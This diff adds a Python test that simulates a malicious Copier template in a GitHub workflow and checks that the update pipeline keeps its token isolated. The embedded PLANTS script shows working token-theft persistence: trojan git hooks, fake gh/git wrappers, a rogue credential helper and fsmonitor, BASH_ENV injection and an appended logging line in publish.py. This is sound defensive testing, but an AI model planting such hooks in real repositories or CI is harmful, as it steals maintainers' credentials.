@@ -1,14 +1,18 @@
 """Updates as pull requests, as the scheduled pipelines make them."""
 
 import os
+import shutil
+import subprocess
 from pathlib import Path
+from typing import Any
 
 import pytest
+import yaml
 
 from tests import support
 from tests.life import lives
 from tests.life.conftest import Recorded
-from tests.life.history import LATER, NEXT, THIS
+from tests.life.history import LATER, NEXT, THIS, release
 
 GH = """\
 #!/bin/sh
@@ -169,3 +173,106 @@ def test_a_token_that_may_not_change_workflows_is_explained(proposals: Proposals
     assert "TEMPLATE_UPDATE_TOKEN" in done.stderr
     assert len(done.stderr.splitlines()) == 1
     record("The update changes workflows and the token may not", "fails with what to allow")
+
+
+# What a template may leave on the machine that runs its code, each to send away a token that comes there later.
+PLANTS = """
+import pathlib, subprocess
+here = subprocess.check_output(["git", "rev-parse", "--path-format=absolute", "--git-common-dir"], text=True).strip()
+thief = "#!/bin/sh\\necho \\"$0 $GH_TOKEN\\" >>{loot}\\ncase ${0##*/} in gh | git) PATH={path} exec \\"${0##*/}\\" \\"$@\\" ;; esac\\n"
+places = [pathlib.Path(here, "hooks", name) for name in ("pre-push", "reference-transaction", "post-index-change")]
+places += [pathlib.Path(os.environ["HOME"], "bin", name) for name in ("gh", "git", "helper")]
+for place in places:
+    place.parent.mkdir(exist_ok=True)
+    place.write_text(thief)
+    place.chmod(0o755)
+helper = str(places[-1])
+subprocess.run(["git", "config", "--file", f"{here}/config", "core.fsmonitor", helper])
+subprocess.run(["git", "config", "--global", "credential.helper", f"!{helper}"])
+for name, line in (("GITHUB_PATH", helper.rpartition("/")[0]), ("GITHUB_ENV", f"BASH_ENV={helper}")):
+    with open(os.environ[name], "a") as file:
+        file.write(line + "\\n")
+pathlib.Path(here).with_name("scripts").joinpath("gitops", "publish.py").open("a").write(
+    "\\nimport os\\nopen('{loot}', 'a').write('module ' + os.environ.get('GH_TOKEN', '') + '\\\\n')\\n"
+)
+"""
+
+
+class Machines:
+    """Runs the steps of a workflow as GitHub does: each job begins on a machine of its own, with nothing of another's."""
+
+    def __init__(self, proposals: Proposals, path: str) -> None:
+        self.folder, self.path = proposals.folder / "machines", path
+        self.remote = proposals.folder / "remote.git"
+        self.outputs: dict[str, str] = {}
+        self.said = ""
+
+    def run(self, workflow: Path) -> None:
+        """Run all jobs, in their order."""
+        for name, job in yaml.safe_load(workflow.read_text(encoding="utf-8"))["jobs"].items():
+            if "if" not in job or self.outputs.get("artifact-id"):
+                self._run_job(self.folder / name, job)
+
+    def _run_job(self, machine: Path, job: dict[str, Any]) -> None:
+        for folder in ("home", "temp"):
+            (machine / folder).mkdir(parents=True)
+        for file in ("env", "path"):
+            (machine / file).touch()
+        for step in job["steps"]:
+            if action := step.get("uses"):
+                self._act(machine, action.partition("@")[0], step["with"])
+            else:
+                self._run_step(machine, step)
+
+    def _act(self, machine: Path, action: str, given: dict[str, Any]) -> None:
+        where = Path(str(given.get("path")).replace("${{ runner.temp }}", str(machine / "temp")))
+        kept = self.folder / "artifact"
+        if action == "actions/checkout":
+            support.git("clone", "-q", f"--depth={given.get('fetch-depth', 1) or 99}", f"file://{self.remote}",
+                        str(machine / "work"), cwd=machine)  # fmt: skip
+        elif action == "actions/upload-artifact" and where.exists():
+            kept.mkdir()
+            shutil.copy(where, kept)
+            self.outputs["artifact-id"] = "1"
+        elif action == "actions/download-artifact":
+            shutil.copytree(kept, where)
+
+    def _run_step(self, machine: Path, step: dict[str, Any]) -> None:
+        added = (machine / "path").read_text(encoding="utf-8").split()
+        given = dict(line.split("=", 1) for line in (machine / "env").read_text(encoding="utf-8").splitlines())
+        secret = dict.fromkeys(step.get("env", {}), "the-token")
+        done = subprocess.run(
+            ["bash", "-e", "-c", step["run"]], cwd=machine / "work", capture_output=True, text=True, check=False,
+            env={
+                "HOME": str(machine / "home"), "PATH": ":".join([*reversed(added), self.path]),
+                "RUNNER_TEMP": str(machine / "temp"), "GITHUB_ENV": str(machine / "env"),
+                "GITHUB_PATH": str(machine / "path"), "PYTHONDONTWRITEBYTECODE": "1", **given, **secret,
+            },
+        )  # fmt: skip
+        self.said += done.stdout + done.stderr
+        assert done.returncode == 0, self.said
+
+
+def test_nothing_that_the_templates_code_leaves_behind_meets_the_token(
+    versions: Path, proposals: Proposals, tmp_path: Path, record: Recorded
+) -> None:
+    evil, loot = shutil.copytree(versions, tmp_path / "evil"), tmp_path / "loot"
+    make = proposals.bin / "make"
+    make.write_text(f'#!/bin/sh\n[ "$1" = copier ] || PATH={support.TOOLS_FIRST} exec make "$@"\n', encoding="utf-8")
+    make.chmod(0o755)
+    path = f"{proposals.bin}:{support.TOOLS_FIRST}"
+    hook = evil / "hooks" / "post_generation.py"
+    plants = PLANTS.replace("{loot}", str(loot)).replace("{path}", path)
+    hook.write_text(hook.read_text(encoding="utf-8").replace("\nimport yaml\n", f"\nimport yaml\n{plants}"), "utf-8")
+    release(evil, "v1003.0.0")
+    life = proposals.life
+    for file in (".copier-answers.yml", "scripts/updates/origin.yaml"):
+        if (life.product / file).exists():
+            life.replace(life.product / file, str(versions), str(evil))
+    life.commit()
+    machines = Machines(proposals, path)
+    machines.run(life.product / ".github" / "workflows" / "template-update.yml")
+    assert "proposed https://example.com/pull/1" in machines.said
+    assert loot.exists(), "the template's code is run, where there is nothing to find"
+    assert "the-token" not in loot.read_text(encoding="utf-8")
+    record("The template plants hooks, configuration, programs and variables", "none of them meets a token")
